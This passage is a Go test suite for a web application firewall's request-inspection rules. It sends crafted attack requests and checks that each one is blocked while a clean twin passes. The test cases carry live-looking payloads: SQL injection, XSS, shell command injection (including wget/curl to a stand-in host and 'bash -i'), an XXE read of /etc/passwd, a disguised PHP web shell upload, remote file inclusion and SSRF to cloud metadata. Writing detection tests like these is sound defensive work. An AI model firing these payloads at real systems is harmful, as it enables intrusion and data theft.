package luaassets

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"io/fs"
	"math/big"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"openflare/testing/testsupport"
)

// securityFlags are the node's nine flags (DATAPLANE 2.6).
var securityFlags = []string{"path_traversal", "file_inclusion", "sql_injection", "command_injection", "xss", "ssrf",
	"crlf_injection", "malicious_upload", "xxe"}

func allSecurityFlags(extra obj) obj {
	c := obj{}
	for _, f := range securityFlags {
		c[f] = true
	}
	for k, v := range extra {
		c[k] = v
	}
	return c
}

// securityConfig binds one security_check node per site: one per flag,
// all flags, all but crlf_injection, none, DATAPLANE 11 case 12's pair,
// truthy and falsy flag values, and two with a small inspection limit.
func securityConfig() (obj, []string) {
	var groups, bindings []obj
	var sites []string
	add := func(site string, config obj) {
		id := len(groups) + 2
		groups = append(groups, group(id, false, checkGraph("security_check", config, "security_check")))
		bindings = append(bindings, binding(site, id))
		sites = append(sites, site)
	}
	for _, f := range securityFlags {
		add("s-"+strings.ReplaceAll(f, "_", "-"), obj{f: true})
	}
	add("s-all", allSecurityFlags(nil))
	add("s-none", obj{})
	add("s-nocrlf", allSecurityFlags(obj{"crlf_injection": false}))
	add("s-12", obj{"path_traversal": true, "file_inclusion": true})
	add("s-truthy", obj{"sql_injection": 1, "xss": "true", "ssrf": "1"})
	add("s-falsy", obj{"sql_injection": 0, "xss": "yes", "ssrf": false, "path_traversal": "0"})
	add("s-limit", allSecurityFlags(obj{"body_inspect_bytes": 1024}))
	add("s-refuse", allSecurityFlags(obj{"body_inspect_bytes": 1024, "oversize_body": "refuse"}))
	return obj{"rule_groups": append([]obj{group(1, true, allowGraph())}, groups...), "bindings": bindings}, sites
}

// selfSigned writes a certificate for *.test and its key into dir.
func selfSigned(t testing.TB, dir string) (cert, key string) {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "security.test"},
		DNSNames:     []string{"*.test"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.PublicKey, k)
	if err != nil {
		t.Fatal(err)
	}
	kb, err := x509.MarshalECPrivateKey(k)
	if err != nil {
		t.Fatal(err)
	}
	cert, key = filepath.Join(dir, "test.crt"), filepath.Join(dir, "test.key")
	if err := os.WriteFile(cert, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(key, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kb}), 0o644); err != nil {
		t.Fatal(err)
	}
	return cert, key
}

// startSecurityRig serves every site of securityConfig on port 80 and,
// over TLS with HTTP/2, on 443, with an 8 KiB body buffer (larger bodies
// go to a temp file) and a Lua origin that reads the body and says
// whether the request had a Content-Length. tools.test holds the test
// and benchmark endpoints.
func startSecurityRig(t testing.TB) *rig {
	r := newRig(t)
	doc, sites := securityConfig()
	r.writeWAF(doc)
	cert, key := selfSigned(t, t.TempDir())
	var servers strings.Builder
	fmt.Fprintf(&servers, "    ssl_certificate %s;\n    ssl_certificate_key %s;\n", cert, key)
	for _, s := range sites {
		fmt.Fprintf(&servers, `
    server {
        listen 80;
        listen 443 ssl http2;
        server_name %[1]s.test;
        set $openflare_waf_site "%[1]s";
        client_body_buffer_size 8k;
        client_max_body_size 1m;
        access_by_lua_file %[2]s/waf/check.lua;
        location / {
            content_by_lua_block {
                ngx.req.read_body()
                ngx.header["X-Length"] = ngx.var.http_content_length or "none"
                ngx.print("origin-ok")
            }
        }
    }
`, s, r.luaDir)
	}
	servers.WriteString(`
    server {
        listen 80;
        server_name tools.test;
        client_body_buffer_size 4m;
        client_max_body_size 4m;
        location = /hits {
            content_by_lua_block {
                local cjson = require("cjson.safe")
                local security = require("waf.security")
                ngx.req.read_body()
                local req = assert(cjson.decode(ngx.req.get_body_data()))
                local config = {}
                for _, f in ipairs(req.flags) do config[f] = true end
                local out = {}
                for i, str in ipairs(req.strings) do
                    -- the corpus is URL-encoded: the application reads it decoded once
                    out[i] = security.hits(config, req.set, req.encoded and ngx.unescape_uri(str) or str) or ""
                end
                ngx.print(cjson.encode(out))
            }
        }
        location = /cpu {
            content_by_lua_block {
                local security = require("waf.security")
                local config = {}
                for _, f in ipairs(security.FLAGS) do config[f] = true end
                ngx.req.read_body()
                local n = tonumber(ngx.var.arg_n) or 200
                local verdict = security.verdict(config)
                for _ = 1, 20 do security.verdict(config) end
                local best = math.huge
                for _ = 1, 3 do
                    local c0 = os.clock()
                    for _ = 1, n do security.verdict(config) end
                    best = math.min(best, (os.clock() - c0) * 1e6 / n)
                end
                ngx.say(string.format("%.2f %s", best, tostring(verdict)))
            }
        }
    }
`)
	r.start(servers.String())
	return r
}

// secReq is one request to a site of the security rig.
type secReq struct {
	site, method, target string
	header               http.Header
	body                 string
	chunked, h2          bool
}

type secReply struct {
	reply
	proto string
}

func (r *rig) secSend(q secReq) secReply {
	r.t.Helper()
	method := q.method
	if method == "" {
		method = http.MethodGet
		if q.body != "" {
			method = http.MethodPost
		}
	}
	var body io.Reader
	if q.body != "" {
		body = strings.NewReader(q.body)
		if q.chunked || q.h2 {
			// Length unknown to the client: chunked over HTTP/1.1, DATA
			// frames without content-length over HTTP/2.
			body = io.MultiReader(body)
		}
	}
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(otherIP)}, Timeout: 5 * time.Second}
	tr := &http.Transport{DisableKeepAlives: true}
	base := "http://" + q.site + ".test"
	tr.DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
		return dialer.DialContext(ctx, network, "127.0.0.1:80")
	}
	if q.h2 {
		base = "https://" + q.site + ".test"
		tr.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
		tr.ForceAttemptHTTP2 = true
		tr.DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
			return dialer.DialContext(ctx, network, "127.0.0.1:443")
		}
	}
	client := &http.Client{Transport: tr, Timeout: 20 * time.Second}
	req, err := http.NewRequest(method, base+q.target, body)
	if err != nil {
		r.t.Fatal(err)
	}
	for k, v := range q.header {
		req.Header[k] = v
	}
	resp, err := client.Do(req)
	if err != nil {
		r.t.Fatalf("%s %s%s: %v", method, base, q.target, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		r.t.Fatal(err)
	}
	return secReply{reply{status: resp.StatusCode, body: string(b), header: resp.Header}, resp.Proto}
}

const (
	formType = "application/x-www-form-urlencoded"
	sqliForm = "q=1%27+union+select+1"
)

func formHeader() http.Header { return http.Header{"Content-Type": {formType}} }

// padForm is a form body of n bytes ending in the field last.
func padForm(n int, last string) string {
	return "pad=" + strings.Repeat("a", n-len(last)-5) + "&" + last
}

func multipartBody(parts ...string) string {
	return strings.Join(parts, "") + "--XyZ--\r\n"
}

func filePart(name, filename, ctype, content string) string {
	return "--XyZ\r\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\"" + filename + "\"\r\nContent-Type: " +
		ctype + "\r\n\r\n" + content + "\r\n"
}

func fieldPart(name, value string) string {
	return "--XyZ\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
}

var multipartHeader = http.Header{"Content-Type": {"multipart/form-data; boundary=XyZ"}}

// queryArgs is n clean arguments, short enough for nginx's default
// 8 KiB request line at 1,001.
func queryArgs(n int) string {
	args := make([]string, n)
	for i := range args {
		args[i] = fmt.Sprintf("%c=%d", 'a'+i%26, i%10)
	}
	return strings.Join(args, "&")
}

// cookies is n clean cookies in one Cookie header.
func cookies(n int) string {
	return strings.ReplaceAll(queryArgs(n), "&", "; ")
}

func gzipped(_ testing.TB, s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	io.WriteString(w, s)
	w.Close()
	return b.String()
}

func utf16LE(s string) string {
	var b bytes.Buffer
	b.Write([]byte{0xFF, 0xFE})
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	return b.String()
}

const xxeDoc = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>`

// TestSecurityCheckInputs: what the origin would get is what is
// inspected. Each attack is refused, and the same request without it
// reaches the origin.
func TestSecurityCheckInputs(t *testing.T) {
	r := startSecurityRig(t)
	gz := http.Header{"Content-Type": {formType}, "Content-Encoding": {"gzip"}}
	for _, c := range []struct {
		name          string
		attack, clean secReq
	}{
		{"SQLi in a 20,000-byte form body (a temp file)",
			secReq{site: "s-sql-injection", header: formHeader(), body: padForm(20000, sqliForm)},
			secReq{site: "s-sql-injection", header: formHeader(), body: padForm(20000, "q=hello")}},
		{"SQLi in a chunked body",
			secReq{site: "s-sql-injection", header: formHeader(), body: sqliForm, chunked: true},
			secReq{site: "s-sql-injection", header: formHeader(), body: "q=hello", chunked: true}},
		{"SQLi in a 20,000-byte chunked body",
			secReq{site: "s-all", header: formHeader(), body: padForm(20000, sqliForm), chunked: true},
			secReq{site: "s-all", header: formHeader(), body: padForm(20000, "q=hello"), chunked: true}},
		{"SQLi in the 101st query argument",
			secReq{site: "s-sql-injection", target: "/?" + queryArgs(100) + "&q=1%27%20union%20select%201"},
			secReq{site: "s-sql-injection", target: "/?" + queryArgs(100) + "&q=hello"}},
		{"SQLi in the 1,000th query argument",
			secReq{site: "s-sql-injection", target: "/?" + queryArgs(999) + "&q=1%27%20or%20%271%27=%271"},
			secReq{site: "s-sql-injection", target: "/?" + queryArgs(999) + "&q=hello"}},
		{"SQLi in a second Referer header",
			secReq{site: "s-sql-injection", header: http.Header{"Referer": {"http://a.example/", "http://b.example/?id=1' union select 1"}}},
			secReq{site: "s-sql-injection", header: http.Header{"Referer": {"http://a.example/", "http://b.example/?id=1"}}}},
		{"SQLi in the 1,001st argument of a Referer's query",
			secReq{site: "s-sql-injection", header: http.Header{"Referer": {"http://r.example/?" + queryArgs(1000) + "&id=1' union select 1"}}},
			secReq{site: "s-sql-injection", header: http.Header{"Referer": {"http://r.example/?" + queryArgs(1000) + "&id=1"}}}},
		{"SQLi in a second Cookie header",
			secReq{site: "s-sql-injection", header: http.Header{"Cookie": {"a=1", "id=1' or '1'='1"}}},
			secReq{site: "s-sql-injection", header: http.Header{"Cookie": {"a=1", "id=1"}}}},
		{"SQLi in the 1,000th cookie",
			secReq{site: "s-sql-injection", header: http.Header{"Cookie": {cookies(999) + "; id=1' or '1'='1"}}},
			secReq{site: "s-sql-injection", header: http.Header{"Cookie": {cookies(999) + "; id=1"}}}},
		{"SQLi in a cookie escaped once, among clean ones",
			secReq{site: "s-sql-injection", header: http.Header{"Cookie": {"a=1; id=1%27%20or%20%271%27%3D%271; b=2"}}},
			secReq{site: "s-sql-injection", header: http.Header{"Cookie": {"a=1; id=it%27s%20fine; b=2"}}}},
		{"SQLi in the User-Agent",
			secReq{site: "s-sql-injection", header: http.Header{"User-Agent": {"Mozilla/5.0' or 1=1--"}}},
			secReq{site: "s-sql-injection", header: http.Header{"User-Agent": {uaChrome}}}},
		{"raw ..%2f traversal in the path",
			secReq{site: "s-path-traversal", target: "/a/b/c/..%2f..%2fsecret.txt"},
			secReq{site: "s-path-traversal", target: "/a/b/c/secret.txt"}},
		{"raw %2e%2e/ traversal in the path",
			secReq{site: "s-path-traversal", target: "/static/%2e%2e/app/%2e%2e/x"},
			secReq{site: "s-path-traversal", target: "/static/app.js"}},
		{"triple-encoded traversal in the path",
			secReq{site: "s-path-traversal", target: "/a/%25252e%25252e%25252fb"},
			secReq{site: "s-path-traversal", target: "/a/%252e-b"}},
		{"gzip-encoded body",
			secReq{site: "s-sql-injection", header: gz, body: gzipped(t, sqliForm)},
			secReq{site: "s-sql-injection", header: gz, body: gzipped(t, "q=hello")}},
		{"JSON \\u0020 escapes",
			secReq{site: "s-sql-injection", header: http.Header{"Content-Type": {"application/json"}}, body: `{"q":"1\u0027\u0020union\u0020select\u00201"}`},
			secReq{site: "s-sql-injection", header: http.Header{"Content-Type": {"application/json"}}, body: `{"q":"it\u0027s\u0020fine","n":[1,{"a":"b"}]}`}},
		{"XXE in UTF-16",
			secReq{site: "s-xxe", header: http.Header{"Content-Type": {"application/xml"}}, body: utf16LE(xxeDoc)},
			secReq{site: "s-xxe", header: http.Header{"Content-Type": {"application/xml"}}, body: utf16LE(`<?xml version="1.0"?><r>file</r>`)}},
		{"a bare shell.php upload",
			secReq{site: "s-malicious-upload", header: multipartHeader, body: multipartBody(filePart("file", "shell.php", "image/jpeg", "hello"))},
			secReq{site: "s-malicious-upload", header: multipartHeader, body: multipartBody(filePart("file", "photo.jpg", "image/jpeg", "hello"))}},
		{"a PHP shell behind an image name",
			secReq{site: "s-malicious-upload", header: multipartHeader, body: multipartBody(filePart("file", "cat.jpg", "image/jpeg", "GIF89a<?php system($_GET['c']); ?>"))},
			secReq{site: "s-malicious-upload", header: multipartHeader, body: multipartBody(filePart("file", "cat.jpg", "image/jpeg", "GIF89a binary"))}},
		{"SQLi in a multipart field, crlf_injection on",
			secReq{site: "s-all", header: multipartHeader, body: multipartBody(fieldPart("note", "line one\r\nline two"), fieldPart("q", "1' union select 1"))},
			secReq{site: "s-all", header: multipartHeader, body: multipartBody(fieldPart("note", "line one\r\nline two"), filePart("file", "photo.jpg", "image/jpeg", "\xff\xd8 binary\r\n\r\nmore"))}},
	} {
		if got := r.secSend(c.attack); got.status != 403 || got.body != "security_check\n" {
			t.Errorf("%s: got %d %q, want 403", c.name, got.status, got.body)
		}
		if got := r.secSend(c.clean); got.status != 200 || got.body != "origin-ok" {
			t.Errorf("%s, without the attack: got %d %q, want the origin", c.name, got.status, got.body)
		}
	}

	t.Run("HTTP/2 body without Content-Length", func(t *testing.T) {
		got := r.secSend(secReq{site: "s-sql-injection", header: formHeader(), body: padForm(20000, sqliForm), h2: true})
		if got.status != 403 || got.proto != "HTTP/2.0" {
			t.Errorf("attack: got %d over %s, want 403 over HTTP/2.0", got.status, got.proto)
		}
		got = r.secSend(secReq{site: "s-sql-injection", header: formHeader(), body: padForm(20000, "q=hello"), h2: true})
		if got.status != 200 || got.proto != "HTTP/2.0" || got.header.Get("X-Length") != "none" {
			t.Errorf("clean: got %d over %s, Content-Length %q; want 200 over HTTP/2.0 without one", got.status, got.proto, got.header.Get("X-Length"))
		}
	})

	t.Run("argument cap", func(t *testing.T) {
		// 1,000 arguments are all inspected; the 1,001st is refused, not
		// passed unscanned.
		if got := r.secSend(secReq{site: "s-all", target: "/?" + queryArgs(1000)}); got.status != 200 {
			t.Errorf("1,000 arguments: got %d", got.status)
		}
		if got := r.secSend(secReq{site: "s-all", target: "/?" + queryArgs(1001)}); got.status != 403 {
			t.Errorf("1,001 arguments: got %d, want 403", got.status)
		}
		if got := r.secSend(secReq{site: "s-all", header: formHeader(), body: queryArgs(1001)}); got.status != 403 {
			t.Errorf("1,001 form fields: got %d, want 403", got.status)
		}
		if got := r.secSend(secReq{site: "s-all", header: http.Header{"Cookie": {cookies(1000)}}}); got.status != 200 {
			t.Errorf("1,000 cookies: got %d", got.status)
		}
		if got := r.secSend(secReq{site: "s-all", header: http.Header{"Cookie": {cookies(1001)}}}); got.status != 403 {
			t.Errorf("1,001 cookies: got %d, want 403", got.status)
		}
	})

	t.Run("decoding budget", func(t *testing.T) {
		// Escapes decoded past the application's reading cost a scan each:
		// in the path, query and headers 16 KiB of them are inspected, more
		// are refused; "+" alone is free, and the body has only its limit.
		// Header lines of up to 8 KB here: nginx's defaults. The values
		// decode to quotes, which the SQL detector must see: a cookie
		// header no form of which passes the prefilter is never split
		// (its whole is scanned), and no budget is spent.
		twice := "k=" + strings.Repeat("%2527", 1500) // 4.5 KB decoded once more, 1.5 KB twice
		once := "k=" + strings.Repeat("%27", 2600)    // 2.6 KB decoded once
		clean := "k=" + strings.Repeat("%2541", 1500)
		for _, c := range []struct {
			name   string
			q      secReq
			status int
		}{
			{"three cookies escaped twice, 18 KB decoded", secReq{site: "s-all", header: http.Header{"Cookie": {twice, twice, twice}}}, 403},
			{"two cookies escaped twice, 12 KB decoded", secReq{site: "s-all", header: http.Header{"Cookie": {twice, twice}}}, 200},
			{"three cookies escaped once, 7.8 KB decoded", secReq{site: "s-all", header: http.Header{"Cookie": {once, once, once}}}, 200},
			{"three clean cookies escaped twice", secReq{site: "s-all", header: http.Header{"Cookie": {clean, clean, clean}}}, 200},
			{"a 7.5 KB query value of %2B", secReq{site: "s-all", target: "/?q=" + strings.Repeat("a%2Bb", 1500)}, 200},
			{"a 40 KB form field escaped twice", secReq{site: "s-all", header: formHeader(), body: "q=" + strings.Repeat("%2541", 8000)}, 200},
		} {
			if got := r.secSend(c.q); got.status != c.status {
				t.Errorf("%s: got %d, want %d", c.name, got.status, c.status)
			}
		}
	})

	t.Run("inspection limit", func(t *testing.T) {
		// s-limit inspects 1 KiB: the first bytes of a larger body are
		// inspected and the rest passes (the documented default); s-refuse
		// refuses any larger body with 413.
		early := sqliForm + "&" + strings.Repeat("b", 2000)
		late := "pad=" + strings.Repeat("a", 2000) + "&" + sqliForm
		for _, c := range []struct {
			site, body string
			status     int
		}{
			{"s-limit", early, 403}, {"s-limit", late, 200}, {"s-limit", "q=hello", 200},
			{"s-refuse", early, 413}, {"s-refuse", late, 413}, {"s-refuse", "q=hello", 200},
			{"s-refuse", sqliForm, 403},
		} {
			for _, chunked := range []bool{false, true} {
				got := r.secSend(secReq{site: c.site, header: formHeader(), body: c.body, chunked: chunked})
				if got.status != c.status {
					t.Errorf("%s, %d-byte body (chunked %v): got %d, want %d", c.site, len(c.body), chunked, got.status, c.status)
				}
			}
		}
	})

	t.Run("content encodings", func(t *testing.T) {
		for _, c := range []struct {
			name, coding, body string
			status             int
		}{
			{"deflate", "deflate", deflated(t, sqliForm), 403},
			{"clean deflate", "deflate", deflated(t, "q=hello"), 200},
			{"gzip, gzip", "gzip, gzip", gzipped(t, gzipped(t, sqliForm)), 403},
			{"identity", "identity", sqliForm, 403},
			{"brotli cannot be inspected", "br", "\x1b\x03\x00", 415},
			{"corrupt gzip", "gzip", "not gzip at all", 415},
		} {
			got := r.secSend(secReq{site: "s-sql-injection", header: http.Header{"Content-Type": {formType}, "Content-Encoding": {c.coding}}, body: c.body})
			if got.status != c.status {
				t.Errorf("%s: got %d, want %d", c.name, got.status, c.status)
			}
		}
	})
}

func deflated(_ testing.TB, s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	io.WriteString(w, s)
	w.Close()
	return b.String()
}

// TestSecurityCheckBypasses: the evasions of issue 21 are refused.
func TestSecurityCheckBypasses(t *testing.T) {
	r := startSecurityRig(t)
	jsonType := http.Header{"Content-Type": {"application/json"}}
	for _, c := range []struct {
		name string
		req  secReq
	}{
		{"union all select", secReq{site: "s-sql-injection", target: "/?id=1%20union%20all%20select%201,2"}},
		{"union/*x*/select", secReq{site: "s-sql-injection", target: "/?id=1%20union/*x*/select%201"}},
		{"union%09select", secReq{site: "s-sql-injection", target: "/?id=1%20union%09select%201"}},
		{"/*!union*/ select", secReq{site: "s-sql-injection", target: "/?id=1%20/*!50000union*/%20select%201"}},
		{"'or'1'='1", secReq{site: "s-sql-injection", target: "/?u=%27or%271%27=%271"}},
		{"admin'--", secReq{site: "s-sql-injection", header: formHeader(), body: "user=admin%27--&pass=x"}},
		{"1 and sleep(5)", secReq{site: "s-sql-injection", target: "/?id=1%20and%20sleep(5)"}},
		{"'; drop table", secReq{site: "s-sql-injection", target: "/?id=1%27;%20drop%20table%20users--"}},
		{"onerror =alert(1)", secReq{site: "s-xss", target: "/?x=%3Cimg%20src=x%20onerror%20=alert(1)%3E"}},
		{"<svg/onload=", secReq{site: "s-xss", target: "/?x=%3Csvg/onload=alert(1)%3E"}},
		{"javascript&colon;", secReq{site: "s-xss", target: "/?u=javascript%26colon;alert(1)"}},
		{"jav&#x09;ascript:", secReq{site: "s-xss", header: formHeader(), body: "u=%3Ca+href%3D%22jav%26%23x09%3Bascript%3Aalert(1)%22%3E"}},
		{"attribute breakout", secReq{site: "s-xss", target: "/?q=%22%20onmouseover=%22alert(1)"}},
		{"$(whoami)", secReq{site: "s-command-injection", target: "/?c=%24(whoami)"}},
		{"`id`", secReq{site: "s-command-injection", target: "/?c=%60id%60"}},
		{";cat /etc/passwd", secReq{site: "s-command-injection", target: "/?host=x;cat%20/etc/passwd"}},
		{"${IFS}", secReq{site: "s-command-injection", target: "/?c=x;cat${IFS}/etc/passwd"}},
		{"w'h'o'am'i", secReq{site: "s-command-injection", target: "/?c=x|w%27h%27o%27am%27i"}},
		{"..%c0%af", secReq{site: "s-path-traversal", target: "/?f=..%c0%af..%c0%afwin.ini"}},
		{"..%c0%af in the path", secReq{site: "s-path-traversal", target: "/..%c0%af..%c0%afsecret"}},
		{"..%u2215", secReq{site: "s-path-traversal", target: "/?f=..%uff0f..%uff0fsecret"}},
		{"php://filter", secReq{site: "s-file-inclusion", target: "/?page=php://filter/resource=index"}},
		{"remote include", secReq{site: "s-file-inclusion", target: "/?page=http://198.51.100.7/shell.txt"}},
		{"SSRF to 127.1", secReq{site: "s-ssrf", target: "/?url=http://127.1:8080/admin"}},
		{"SSRF to decimal 127.0.0.1", secReq{site: "s-ssrf", target: "/?url=http://2130706433/"}},
		{"header injection", secReq{site: "s-crlf-injection", target: "/?next=/%0d%0aSet-Cookie:%20a=b"}},
		{"a bare shell.php upload", secReq{site: "s-malicious-upload", header: multipartHeader, body: multipartBody(filePart("f", "shell.php", "application/octet-stream", "x"))}},
		{"shell.php.jpg", secReq{site: "s-malicious-upload", header: multipartHeader, body: multipartBody(filePart("f", "shell.php.jpg", "image/jpeg", "x"))}},
		{"shell.pHp;.jpg", secReq{site: "s-malicious-upload", header: multipartHeader, body: multipartBody(filePart("f", "shell.pHp;.jpg", "image/jpeg", "x"))}},
		{"JSON \\u0020 escapes", secReq{site: "s-sql-injection", header: jsonType, body: `{"q":"1\u0027\u0020union\u0020select\u00201"}`}},
		{"JSON \\u003c escapes", secReq{site: "s-xss", header: jsonType, body: `{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`}},
		{"XXE in UTF-16", secReq{site: "s-xxe", header: http.Header{"Content-Type": {"text/xml"}}, body: utf16LE(xxeDoc)}},
		{"XXE in a text/plain body", secReq{site: "s-xxe", header: http.Header{"Content-Type": {"text/plain"}}, body: xxeDoc}},
		{"XXE in an SVG upload", secReq{site: "s-xxe", header: multipartHeader, body: multipartBody(filePart("f", "a.svg", "image/svg+xml", xxeDoc))}},
		{"a gzip-encoded body", secReq{site: "s-xss", header: http.Header{"Content-Type": {formType}, "Content-Encoding": {"gzip"}}, body: gzipped(t, "x=%3Cscript%3Ealert(1)%3C/script%3E")}},
	} {
		if got := r.secSend(c.req); got.status != 403 {
			t.Errorf("%s: got %d %q, want 403", c.name, got.status, got.body)
		}
	}
	// A legitimate multipart upload passes with crlf_injection on: CR LF
	// is how multipart bodies are written.
	upload := multipartBody(fieldPart("title", "Holiday\r\nphotos"), filePart("file", "beach.jpg", "image/jpeg", "\xff\xd8\xff\xe0 jpeg\r\n\r\nbytes"))
	for _, site := range []string{"s-crlf-injection", "s-all"} {
		if got := r.secSend(secReq{site: site, header: multipartHeader, body: upload}); got.status != 200 {
			t.Errorf("legitimate upload on %s: got %d %q", site, got.status, got.body)
		}
	}
}

// TestSecurityCheckFlags: each flag's detector runs only with its flag
// (a flag off means its detector does not run), on the inputs its
// DATAPLANE 2.6 row names, and near misses pass.
func TestSecurityCheckFlags(t *testing.T) {
	r := startSecurityRig(t)
	type sc struct {
		target string
		header http.Header
		status int
	}
	cases := map[string][]sc{
		"path_traversal": {
			{"/dl?f=..%2F..%2Fetc%2Fpasswd", nil, 403},
			{"/?f=..%5Cwin.ini", nil, 403},
			{"/?f=....%2F%2Fx", nil, 403},
			{"/static/..%5c..%5cboot.ini", nil, 403},
			{"/?f=%252e%252e%252f", nil, 403},
			{"/?f=%25252e%25252e%25252f", nil, 403},
			{"/etc/passwd", nil, 403},
			{"/a/../b", nil, 403}, // the raw path: browsers never send a dot segment
			{"/?f=v1..2/x", nil, 200},
			{"/?f=a.b%2Fc", nil, 200},
			{"/?q=Loading...", nil, 200},
			{"/", http.Header{"Cookie": {"a=../../etc"}}, 200}, // headers are not searched for this flag
		},
		"file_inclusion": {
			{"/?p=php%3A%2F%2Ffilter", nil, 403},
			{"/?p=FILE:///x", nil, 403},
			{"/?p=%2Fproc%2Fself%2Fenviron", nil, 403},
			{"/?p=data://text/plain,x", nil, 403},
			{"/?p=x%2500", nil, 403}, // a NUL byte
			{"/?p=phpinfo", nil, 200},
			{"/?p=data://image", nil, 200},
			{"/?p=/proc/cpuinfo", nil, 200},
			{"/?next=https://example.com/page", nil, 200},
		},
		"sql_injection": {
			{"/?q=1%27%20union%20select%201--", nil, 403},
			{"/?q=1%27%20and%20sleep(5)--", nil, 403},
			{"/?q=BENCHMARK(1000000,md5(1))", nil, 403},
			{"/?q=x%2527%2520UNION%2520SELECT%2520y", nil, 403},
			{"/?q=a%20or%201=1", nil, 403},
			{"/?q=1/**/and/**/1=1", nil, 403},
			{"/?union+select=1", nil, 403},
			{"/", http.Header{"Cookie": {"q=1' union select 1"}}, 403},
			{"/", http.Header{"Referer": {"http://x/?id=1 UNION SELECT 2"}}, 403},
			{"/", http.Header{"User-Agent": {"x' union select y--"}}, 403},
			{"/?name=sleep(better)", nil, 200},
			{"/?q=unionselect", nil, 200},
			{"/?q=selection%20union", nil, 200},
			{"/?q=Rock%20%27n%27%20roll", nil, 200},
			{"/?q=O%27Reilly%20books", nil, 200},
			{"/", http.Header{"X-Anything": {"1 union select 1"}}, 200},
			{"/", http.Header{"User-Agent": {uaFirefox}, "Cookie": {"_ga=GA1.2.3; theme=dark"}}, 200},
		},
		"command_injection": {
			{"/?c=x%3Bwget%20http://e", nil, 403},
			{"/?c=a|sh%09-c", nil, 403},
			{"/?c=%24(id)", nil, 403},
			{"/?c=%60id%60", nil, 403},
			{"/?c=x%26%26curl%20http://e", nil, 403},
			{"/?c=cmd.exe%20/c%20dir", nil, 403},
			{"/", http.Header{"Cookie": {"s=1|bash -i"}}, 403},
			{"/?c=a%26%26b", nil, 200},
			{"/?c=a||b", nil, 200},
			{"/?c=x;shell", nil, 200},
			{"/?c=powershell", nil, 200},
			{"/?q=tom%20%26%20jerry", nil, 200},
		},
		"xss": {
			{"/?x=%3Cscript%3Ealert(1)%3C/script%3E", nil, 403},
			{"/?x=%3CIFRAME%20src=x", nil, 403},
			{"/?x=%3Cimg%20src=x%20onerror=alert(1)%3E", nil, 403},
			{"/?x=javascript:alert(1)", nil, 403},
			{"/?x=%22javascript:%20(1)", nil, 403},
			{"/?x=eval(%22x%22)", nil, 403},
			{"/", http.Header{"Referer": {"http://x/?q=<script>"}}, 403},
			{"/?x=learn%20javascript:%20(1)", nil, 200},
			{"/?x=evaluate(1)", nil, 200},
			{"/?x=onerror", nil, 200},
			{"/?x=I%20%3C3%20you", nil, 200},
			{"/?x=a%3Cb%20and%20c%3Ed", nil, 200},
		},
		"ssrf": {
			{"/?u=http://127.0.0.1/admin", nil, 403},
			{"/?u=HTTP://LOCALHOST:8080", nil, 403},
			{"/?u=http://169.254.169.254/latest/meta-data", nil, 403},
			{"/?u=gopher://x", nil, 403},
			{"/?u=http://%5B::1%5D/", nil, 403},
			{"/?u=http://10.0.0.7/", nil, 403},
			{"/", http.Header{"Referer": {"http://metadata.google.internal/"}}, 403},
			{"/?u=localhost", nil, 200},
			{"/?u=https://example.com/", nil, 200},
			{"/?u=http://198.51.100.7/", nil, 200},
		},
		"crlf_injection": {
			{"/?x=a%0d%0aSet-Cookie:x", nil, 403},
			{"/?x=a%250d%250aLocation:%20//evil", nil, 403},
			{"/?x=a%0aContent-Type:text/html", nil, 403},
			{"/?x=a%0d%0aX", nil, 200},
			{"/?x=a%0aX", nil, 200},
			{"/?x=line%0d%0anote:%20fine", nil, 200},
		},
		// Body-only flags: nothing in the URL or headers counts.
		"malicious_upload": {
			{"/?f=shell.php.jpg", nil, 200},
		},
		"xxe": {
			{"/?x=%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E", nil, 200},
		},
	}
	for _, f := range securityFlags {
		for _, c := range cases[f] {
			site := "s-" + strings.ReplaceAll(f, "_", "-")
			got := r.secSend(secReq{site: site, target: c.target, header: c.header})
			if got.status != c.status {
				t.Errorf("%s: GET %s %v: got %d, want %d", f, c.target, c.header, got.status, c.status)
			}
			if c.status != 403 {
				continue
			}
			if got := r.secSend(secReq{site: "s-all", target: c.target, header: c.header}); got.status != 403 {
				t.Errorf("all flags: GET %s: got %d", c.target, got.status)
			}
			// Every other flag alone lets it through unless it names the
			// same attack another way.
			if got := r.secSend(secReq{site: "s-none", target: c.target, header: c.header}); got.status != 200 {
				t.Errorf("no flags: GET %s: got %d", c.target, got.status)
			}
		}
	}

	t.Run("DATAPLANE 11 cases 12 and 13", func(t *testing.T) {
		for _, c := range []struct {
			site, target string
			header       http.Header
			status       int
		}{
			{"s-12", "/ok", nil, 200},
			{"s-12", "/dl?f=..%2F..%2Fetc%2Fpasswd", nil, 403},
